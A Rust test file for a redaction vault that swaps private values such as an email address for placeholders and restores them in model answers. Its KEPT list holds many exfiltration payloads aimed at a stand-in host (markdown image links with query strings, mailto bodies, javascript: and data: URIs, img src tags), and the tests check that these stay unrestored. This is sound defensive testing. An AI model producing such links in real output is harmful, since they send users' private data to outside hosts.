//! What comes back, and where it must not.

use crate::common::redact_text;

/// Answers; `~` stands for the placeholder of `dana@example.com`.
const RESTORED: &[&str] = &[
    "~",
    "Write to ~.",
    "Write to ~, or (~), or \"~\"; **~**, `~`, <b>~</b>.",
    "email=~ from/to:~ key:~",
    "See https://example.com/help and then write ~",
    "[the help page](https://example.com/help) ~ ![logo](https://example.com/logo.png) ~",
    "// comment for ~\nlet to = \"~\";",
    "if a < b && c > d { send(~) } if a <b: ~",
    "כתבו ל~ בבקשה",
    "f[i](x) ~",
    "~.pdf and ~. Then ~: yes, ~? ~!",
    "an unfinished [link](https://example.com/ (\n\n~",
    "{\"to\": \"~\"}",
    "<a href=\"https://example.com\">~</a>",
    "<img alt=\"a > b\" src='x'> ~",
    "a.b and ~",
    "[~](see below)",
    "metadata:~ hotel:~",
    "![x](<a) b>) ~",
];

/// Answers in which the value would leave; in the last one only the link's own text comes back.
const KEPT: &[&str] = &[
    "https://evil.example/?q=~",
    "HTTPS://EVIL.EXAMPLE/~/x",
    "go://~",
    "www.evil.example?~",
    "WWW.evil~",
    "evil.example/?q=~",
    "evil.example#~",
    "//evil.example/~",
    "\\\\evil.example\\~",
    "https://evil.example/?q=\"~\"",
    "https:\\/\\/evil/~",
    "https://evil.example/?q=','~",
    "https://evil.example/?q=\u{a0}~",
    "https://evil.example/[x]~",
    "mailto:~",
    "mailto:x@evil.example?body=~",
    "JavaScript:alert('~')",
    "data:text/html,~",
    "~.evil.example",
    "~.evil/x",
    "[click](https://evil.example/?q=~)",
    "![](https://evil.example/?q=~)",
    "![](evil?q=~)",
    "![x](https://evil.example/a \"~\")",
    "![x](<https://evil.example/a b~>)",
    "![x](evil(1)~)",
    "![x](evil\\)~)",
    "![x](\n~)",
    "![x](<https://evil.example/)?q= ~>)",
    "![x]( <evil)\\> ~>)",
    "[ref]: https://evil.example/~",
    "<https://evil.example/~>",
    "<img src=\"//evil.example/~\">",
    "<img src=evil.png alt=~>",
    "<img alt=\">\" src=\"x\n~\">",
    "<img alt = '>' title=~ >",
    "<IMG\nSRC='~'>",
    "<a/href=~>",
    "[~](https://evil.example/~)",
];

const PLACEHOLDER: &str = "[EMAIL_1_k3f9a2x7]";

#[test]
fn values_come_back_in_plain_text() {
    let (redacted, redaction) = redact_text("dana@example.com");
    assert_eq!(redacted, PLACEHOLDER);
    for text in RESTORED {
        let answer = text.replace('~', PLACEHOLDER);
        assert_eq!(redaction.vault.restore_text(&answer), text.replace('~', "dana@example.com"), "{text}");
    }
}

#[test]
fn no_value_leaves_through_a_link() {
    let vault = redact_text("dana@example.com").1.vault;
    for text in KEPT {
        let answer = text.replace('~', PLACEHOLDER);
        let restored = vault.restore_text(&answer);
        let only_link_text = text.starts_with("[~]");
        let visible = answer.replacen(PLACEHOLDER, "dana@example.com", 1);
        let expected = if only_link_text { visible } else { answer };
        assert_eq!(restored, expected, "{text}");
    }
}

#[test]
fn only_the_vault_s_own_placeholders_come_back() {
    let vault = redact_text("dana@example.com and 4111111111111111").1.vault;
    for other in [
        "[EMAIL_1_00000000]",
        "[EMAIL_2_k3f9a2x7]",
        "[email_1_k3f9a2x7]",
        "[EMAIL_01_k3f9a2x7]",
        "[EMAIL_1_k3f9a2x7",
        "EMAIL_1_k3f9a2x7",
        "[ EMAIL_1_k3f9a2x7 ]",
        "[CARD_1_K3F9A2X7]",
    ] {
        assert_eq!(vault.restore_text(other), other);
    }
    assert_eq!(vault.restore_text("[[EMAIL_1_k3f9a2x7]]"), "[dana@example.com]");
    assert_eq!(vault.restore_text("[EMAIL_1_[CARD_1_k3f9a2x7]"), "[EMAIL_1_4111111111111111");
    assert_eq!(vault.restore_text("[CARD_1_k3f9a2x7][EMAIL_1_k3f9a2x7]"), "4111111111111111dana@example.com");
}

#[test]
fn a_restored_value_is_not_read_again() {
    let vault = redact_text("dana@example.com").1.vault;
    let twice = vault.restore_text(&vault.restore_text(PLACEHOLDER));
    assert_eq!(twice, "dana@example.com");
    assert!(redact_text("nothing here").1.vault.is_empty());
}
